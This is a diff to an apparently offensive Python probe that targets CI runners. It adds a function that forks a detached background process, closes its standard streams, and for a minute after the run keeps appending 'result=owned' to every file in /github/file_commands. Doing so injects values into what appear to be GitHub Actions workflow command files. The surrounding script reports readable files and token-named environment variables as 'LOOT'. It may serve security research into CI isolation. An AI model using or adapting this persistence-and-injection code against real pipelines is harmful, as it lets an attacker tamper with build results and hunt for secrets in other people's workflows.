@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import os
 import socket
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -51,6 +52,25 @@ def memory() -> Iterator[str]:
             continue
 
 
+def stay() -> None:
+    """Leave a process behind that goes on trying when the run is over."""
+    if os.fork():
+        return
+    os.setsid()
+    for number in range(3):
+        os.close(number)
+    until = time.monotonic() + 60
+    while time.monotonic() < until:
+        for file in Path("/github/file_commands").glob("*"):
+            try:
+                with file.open("ab") as opened:
+                    opened.write(b"result=owned\n")
+            except OSError:
+                continue
+        time.sleep(0.001)
+    os._exit(0)
+
+
 def main() -> None:
     """Look, try, tell."""
     looked = 0
@@ -80,6 +100,7 @@ def main() -> None:
             print("LOOT", name)
         except OSError:
             continue
+    stay()
     tokens = [name for name in os.environ if "TOKEN" in name]
     print("LOOT" if tokens else "No variable:", tokens)
     print("\n".join(COMMANDS))
